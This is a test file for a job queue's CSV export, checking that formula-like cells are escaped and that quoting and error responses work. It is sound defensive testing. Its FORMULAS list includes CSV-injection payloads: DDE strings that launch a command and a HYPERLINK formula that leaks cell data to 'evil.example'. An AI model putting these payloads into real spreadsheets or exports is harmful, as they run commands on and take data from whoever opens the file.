import assert from "node:assert/strict";
import { StorageError } from "@persistent-queue/queue";
import { csvHead, csvRow } from "../../ui/api/csv.ts";
import { claimNext, end } from "../support/queue/attempts.ts";
import { CONTROLS } from "../support/log/evil_texts.ts";
import { testQueue } from "../support/queue/test_queue.ts";
import { openPages } from "./open_pages.ts";

/** As a spreadsheet reads it (RFC 4180). */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, stop] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (stop !== ",") rows.push([]);
  }
  return rows.slice(0, -1);
}

const FORMULAS = [
  ...[
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "  @x",
    "＝1",
    "＋1",
    "－1",
    "＠x",
  ],
  ...[
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    '-2+3+cmd|" /C calc"!A0',
    "=\u202e1",
    "+",
  ],
];

const TEXTS = [
  ...[
    "plain",
    "a,b",
    'say "hello"',
    '"',
    '""',
    '","',
    "a\nb",
    "a\r\nb",
    "a;=1+1",
    "a\t=1",
    "'=1",
    "1=1",
    "日本語 😀",
  ],
  ...["a\\,b", "a'b", ",", ";", "\\", "a\rb", "https://x/?a=b", "1e5", "007"],
  ...CONTROLS.filter((text) => text.isWellFormed()),
];

function asCell(text: string): string {
  return FORMULAS.includes(text) ? `'${text}` : text;
}

Deno.test("a cell that begins like a formula is made text, and every other one comes back as it was", async () => {
  await using pages = await testQueue();
  const [added] = await pages.queue.add([{ id: "a", kind: "mail" }]);
  assert.ok(added);
  for (const text of [...FORMULAS, ...TEXTS]) {
    const job = {
      ...{ ...added.job, id: text, kind: text, consumerId: text, error: text },
      ...{ payload: text, result: text },
    };
    const rows = parse(csvHead() + csvRow(job));
    const [head = [], row = []] = rows;
    assert.deepEqual([rows.length, row.length], [2, head.length], JSON.stringify(text));
    const cells = ["id", "kind", "consumer_id", "error", "payload", "result"].map((name) =>
      row[head.indexOf(name)]
    );
    assert.deepEqual(new Set(cells), new Set([asCell(text)]), JSON.stringify(text));
  }
});

Deno.test("a semicolon or a tab does not split a cell, whichever separator a spreadsheet uses", async () => {
  await using pages = await testQueue();
  const [added] = await pages.queue.add([{ id: "a", kind: "mail" }]);
  assert.ok(added);
  for (const text of ["a;=1+1", "a\t=1+1"]) {
    assert.ok(csvRow({ ...added.job, id: text }).startsWith(`"${text}",`));
  }
});

Deno.test("an export has one row for each job, whatever its id and its error contain", async () => {
  await using pages = await openPages();
  const ids = [...FORMULAS, ...TEXTS].filter((id) => !/\p{Cc}/u.test(id));
  await pages.queue.add(ids.map((id) => ({ id, kind: "mail" })));
  for (const error of CONTROLS) {
    await end(pages.queue, await claimNext(pages.queue), { type: "gave-up", error });
  }
  const response = await pages.api("/api/jobs.csv");
  assert.equal(response.headers.get("content-disposition"), 'attachment; filename="jobs.csv"');
  const [head = [], ...rows] = parse(await response.text());
  const column = (name: string) => rows.map((row) => row[head.indexOf(name)] ?? "");
  assert.ok(rows.every((row) => row.length === head.length));
  assert.deepEqual(column("id").toReversed(), ids.map(asCell));
  assert.deepEqual(column("error").filter((error) => error !== "").length, CONTROLS.length);
});

Deno.test("payloads and results are exported to the letter, and those too long for a cell are named", async () => {
  await using pages = await openPages();
  const payloads = [
    { to: "ann@example.com", note: 'a "quote", a\nline' },
    "=1+1",
    -5,
    null,
    "x".repeat(3_000),
    "y".repeat(32_765),
    "z".repeat(32_766),
    "long".repeat(100_000),
  ];
  await pages.queue.add(payloads.map((payload, i) => ({ id: `m${i}`, kind: "mail", payload })));
  const done = await claimNext(pages.queue);
  await end(pages.queue, done, { type: "returned", result: JSON.stringify({ sent: "r".repeat(5_000) }) });
  const [head = [], ...rows] = parse(await (await pages.api("/api/jobs.csv")).text());
  const column = (name: string) => rows.toReversed().map((row) => row[head.indexOf(name)]);
  const told = payloads.slice(0, 6).map((payload) => JSON.stringify(payload));
  assert.deepEqual(column("payload"), [...told.with(2, "'-5"), "", ""]);
  assert.deepEqual(column("left_out"), ["", "", "", "", "", "", "payload", "payload"]);
  assert.deepEqual(column("result")[0], JSON.stringify({ sent: "r".repeat(5_000) }));
});

Deno.test("an export that cannot be read says why, as JSON and with the right status", async () => {
  await using pages = await openPages();
  const refused = await pages.api(`/api/jobs.csv?q=${"x".repeat(3_000)}`);
  assert.deepEqual([refused.status, refused.headers.get("content-disposition")], [400, null]);
  assert.match(refused.headers.get("content-type") ?? "", /^application\/json/);
  assert.equal((await refused.json()).error.code, "invalid_query");
  const none = await pages.api("/api/jobs.csv?status=FAILED");
  assert.deepEqual([none.status, parse(await none.text()).length], [200, 1], "no job is no error");
});

Deno.test("an export while the storage is away answers 503 as JSON", async () => {
  await using storage = await openPages();
  const away = () => Promise.reject(new StorageError("The storage is away."));
  const queue = new Proxy(storage.queue, {
    get: (target, name) => name === "list" ? away : Reflect.get(target, name),
  });
  await using pages = await openPages({ queue });
  const response = await pages.api("/api/jobs.csv");
  assert.equal(response.status, 503);
  assert.equal((await response.json()).error.code, "storage");
  assert.ok(!pages.audit.some((line) => line.startsWith("Export")), "nothing was exported");
});
